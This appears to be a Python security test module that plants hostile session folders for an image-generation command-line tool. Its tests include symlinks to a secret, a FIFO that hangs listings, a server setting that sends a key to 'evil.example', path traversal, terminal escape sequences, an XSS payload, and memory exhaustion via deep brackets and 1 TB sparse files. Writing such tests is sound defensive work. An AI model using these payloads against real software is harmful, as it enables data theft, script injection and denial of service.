"""Session folders from strangers. The tests write a session `theirs` with one picture before each attack."""

import json
import os
from pathlib import Path
from typing import Any

from tests.hostile.attack import SECRET, Words, attack


def session() -> Path:
    """Return the folder of the session `theirs`."""
    return Path(os.environ["SENSENOVA_DATA_DIR"]) / "sessions" / "theirs"


def add_line(**fields: Any) -> None:
    """Append a line to the session."""
    with (session() / "session.jsonl").open("a") as file:
        file.write(json.dumps({"when": "2026-01-01T00:00:00+00:00", **fields}) + "\n")


def replace_by_link(name: str) -> None:
    """Replace a file of the session by a link to the user's secret."""
    path = session() / name
    path.unlink(missing_ok=True)
    path.symlink_to(Path("secret").absolute())


@attack("session", 2)
def session_lock_link() -> Words:
    """Empty the file to which session.lock links."""
    replace_by_link("session.lock")
    return ["repl", "--session", "theirs"]


@attack("session", 2)
def session_log_link() -> Words:
    """Append to the file to which session.jsonl links."""
    replace_by_link("session.jsonl")
    return ["repl", "--session", "theirs"]


@attack("session", 2)
def session_picture_link() -> Words:
    """Send the user's file out in an exported page."""
    replace_by_link("pictures/001-a-cat-42.png")
    return ["sessions", "export", "theirs", "-o", "page.html"]


@attack("session", 0)
def session_picture_text() -> Words:
    """Send a file that is not a picture out in an exported page."""
    (session() / "pictures/001-a-cat-42.png").write_text(SECRET)
    return ["sessions", "export", "theirs", "-o", "page.html"]


@attack("session", 2)
def session_pipe() -> Words:
    """Let every list of sessions hang."""
    (session() / "session.jsonl").unlink()
    os.mkfifo(session() / "session.jsonl")
    return ["sessions", "show", "theirs"]


@attack("session", 2)
def session_folder_link() -> Words:
    """Write pictures into, and remove files from, a folder of the user."""
    Path("mine").mkdir()
    folder = session() / "pictures"
    for file in folder.iterdir():
        file.unlink()
    folder.rmdir()
    folder.symlink_to(Path("mine").absolute())
    return ["repl", "--session", "theirs"]


@attack("session", 0)
def session_server() -> Words:
    """Send the user's prompts, pictures and key to a server."""
    add_line(kind="set", settings={"server": "http://evil.example", "server_key_file": str(Path("secret").absolute())})
    return ["repl", "--session", "theirs"]


@attack("session", 0)
def session_model() -> Words:
    """Download and load a model."""
    add_line(kind="set", settings={"model": "evil/model", "lora": "evil/lora"})
    return ["repl", "--session", "theirs"]


@attack("session", 0)
def session_profile() -> Words:
    """Show a file of the user in an error of the TOML reader."""
    add_line(kind="profile", profile=str(Path("secret").absolute()))
    return ["repl", "--session", "theirs"]


@attack("session", 0)
def session_picture_path() -> Words:
    """Read a picture outside the session's folder."""
    picture = {"number": 2, "file": "../../../here/secret", "width": 64, "height": 64}
    add_line(kind="use", picture=2, brought=[picture])
    return ["sessions", "show", "theirs"]


@attack("session", 0)
def session_long_name() -> Words:
    """Stop every command with a picture whose name no file can have."""
    add_line(kind="use", picture=2, brought=[{"number": 2, "file": "x" * 5000, "width": 64, "height": 64}])
    return ["sessions", "show", "theirs"]


@attack("session", 0)
def session_escapes() -> Words:
    """Change the terminal with escape sequences in a prompt."""
    add_line(turn=2, kind="generate", prompt="\x1b]0;owned\x07\x9b2J\u202egnp.exe", model="m\x1b[2J")
    return ["sessions", "export", "theirs", "-o", "page.md"]


@attack("session", 0)
def session_html() -> Words:
    """Run a script in the reader of an exported page."""
    add_line(turn=2, kind="chat", prompt="<script>", answer="\t<img src=x onerror=alert(1)>\n", model="m")
    return ["sessions", "export", "theirs", "-o", "page.md"]


@attack("session", 0)
def session_numbers() -> Words:
    """Fill the memory with numbers of 6,000 digits and 100,000 brackets."""
    with (session() / "session.jsonl").open("a") as file:
        file.write('{"kind": "use", "picture": ' + "9" * 6000 + "}\n" + "[" * 100_000 + "\n")
    return ["sessions", "show", "theirs"]


@attack("session", 2)
def session_without_end() -> Words:
    """Fill the memory from a sparse session.jsonl of 1 TB."""
    with (session() / "session.jsonl").open("r+b") as file:
        file.truncate(2**40)
    return ["sessions", "show", "theirs"]


@attack("session", 0)
def session_picture_without_end() -> Words:
    """Fill the memory from a sparse picture of 1 TB."""
    with (session() / "pictures/001-a-cat-42.png").open("r+b") as file:
        file.truncate(2**40)
    return ["sessions", "export", "theirs", "-o", "page.md"]
